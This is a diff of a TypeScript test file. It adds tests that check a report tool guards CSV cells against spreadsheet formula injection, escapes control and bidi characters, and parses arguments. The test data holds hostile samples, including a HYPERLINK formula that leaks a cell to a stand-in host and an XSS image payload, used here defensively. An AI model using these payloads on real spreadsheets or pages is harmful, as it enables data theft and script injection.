@@ -2,10 +2,10 @@ import { describe, expect, it } from 'vitest';
 import { parseCsv } from '../../test/helpers/csv.js';
 import { parseInstant } from '../instant.js';
 import { renderDailyChart } from './chart.js';
-import { csvField, toCsv } from './csv.js';
+import { csvField, needsFormulaGuard, toCsv } from './csv.js';
 import { escapeHtml, renderPage } from './html.js';
 import { parseReportArgs, UsageError } from './options.js';
-import { formatCell, type ReportTable } from './table.js';
+import { formatCell, type ReportTable, showControls, tableOf } from './table.js';
 
 const table = (rows: string[][]): ReportTable => ({
   name: 't',
@@ -40,6 +40,47 @@ describe('CSV (RFC 4180)', () => {
     expect(parseCsv(text)).toEqual([['a', 'b'], ...rows]);
   });
 
+  it('guards cells a spreadsheet would run as a formula (OWASP), never a plain number', () => {
+    const leak = '=HYPERLINK("http://x.example/?leak="&A1,"Fix")';
+    expect(csvField(leak)).toBe(`"'=HYPERLINK(""http://x.example/?leak=""&A1,""Fix"")"`);
+    expect(parseCsv(`${csvField(leak)}\r\n`)).toEqual([[`'${leak}`]]);
+    for (const [v, out] of [
+      ['+cmd', "'+cmd"],
+      ['-2+3', "'-2+3"],
+      ['@SUM(A1)', "'@SUM(A1)"],
+      ['\tx', "'\tx"],
+      ['\rx', `"'\rx"`],
+      ['-1e3', "'-1e3"],
+      ['-', "'-"],
+      ['-3', '-3'],
+      ['+1.5', '+1.5'],
+      ['12', '12'],
+      ['a=b', 'a=b'],
+      [' =x', ' =x'],
+    ] as const) {
+      expect(csvField(v), JSON.stringify(v)).toBe(out);
+    }
+    const t = table([
+      ['=1+1', '-5'],
+      ['@x', 'ok'],
+    ]);
+    expect(toCsv(t)).toEqual({ text: "a,b\r\n'=1+1,-5\r\n'@x,ok\r\n", guarded: 2 });
+    expect(needsFormulaGuard('-0.25')).toBe(false);
+  });
+
+  it('shows acting characters as \\uXXXX and keeps TAB, LF, CR and other text', () => {
+    expect(showControls('\u001b[31mred\u0007\u0008\u0000|\u007f\u009b')).toBe(
+      '\\u001b[31mred\\u0007\\u0008\\u0000|\\u007f\\u009b',
+    );
+    expect(showControls('\u202eevil\u202c \u2066x\u2069 \u200e\u200f \u202a\u202b\u202d')).toBe(
+      '\\u202eevil\\u202c \\u2066x\\u2069 \\u200e\\u200f \\u202a\\u202b\\u202d',
+    );
+    expect(showControls('a\tb\r\nc مرحبا 中文 🔒')).toBe('a\tb\r\nc مرحبا 中文 🔒');
+    const t = tableOf({ name: 't', title: 'T', columns: [{ key: 'a', label: 'A' }] }, [{ a: '\u001bx' }]);
+    expect(t.rows).toEqual([['\\u001bx']]);
+    expect(t.total).toBe(1);
+  });
+
   it('formats cells without locale or time zone', () => {
     expect(formatCell(new Date(Date.UTC(2026, 2, 1, 8, 5, 3, 7)))).toBe('2026-03-01T08:05:03.007Z');
     expect(formatCell(1234567)).toBe('1234567');
@@ -71,9 +112,7 @@ describe('HTML', () => {
       '<svg></svg>',
       't',
     );
-    expect(page).toContain(
-      '<td><bdi>&lt;img src=x onerror=alert(1)&gt;</bdi></td><td><bdi>&quot;中文&quot;</bdi></td>',
-    );
+    expect(page).toContain('<td>&lt;img src=x onerror=alert(1)&gt;</td><td>&quot;中文&quot;</td>');
     expect(page).toContain('<dd data-meta="target">&lt;t&gt;</dd>');
     expect(page).not.toMatch(/<script|<link|@import|url\(|src=["']?http/i);
     expect(page.indexOf('<svg></svg>')).toBeLessThan(page.indexOf('data-table="t"'));
@@ -138,6 +177,28 @@ describe('report arguments', () => {
     expect(() => parseReportArgs(['--as-of', '2026-03-01T00:00:00Z', '--out', 'x', '--days', '0'])).toThrow(
       /--days "0" is not a whole number/,
     );
+  });
+
+  it('keeps the microseconds of --as-of and refuses finer instants and unknown image types', () => {
+    const base = ['--out', 'x', '--as-of'];
+    expect(parseReportArgs([...base, '2026-03-01T08:00:00.275123+08:00']).asOfText).toBe(
+      '2026-03-01T00:00:00.275123Z',
+    );
+    expect(parseReportArgs([...base, '2026-03-01T00:00:00.275Z']).asOfText).toBe('2026-03-01T00:00:00.275Z');
+    expect(parseReportArgs([...base, '2026-03-01T00:00:00.275123000Z']).asOfText).toBe(
+      '2026-03-01T00:00:00.275123Z',
+    );
+    expect(() => parseReportArgs([...base, '2026-03-01T00:00:00.2751234Z'])).toThrow(
+      /finer than a microsecond/,
+    );
+    expect(() => parseReportArgs([...base, '2026-03-01T00:00:00Z', '--image-type', 'privat_image'])).toThrow(
+      /"privat_image" is not an image type \(did you mean private_image\?\)/,
+    );
+    expect(() => parseReportArgs([...base, '2026-03-01T00:00:00Z', '--image-type', 'docker'])).toThrow(
+      /"docker" is not an image type; known: private_image,/,
+    );
+    expect(parseReportArgs([...base, '2026-03-01T00:00:00Z']).allowBroken).toBe(false);
+    expect(parseReportArgs([...base, '2026-03-01T00:00:00Z', '--allow-broken']).allowBroken).toBe(true);
   });
 
   it('takes filters repeated or comma-separated, sorted and unique', () => {
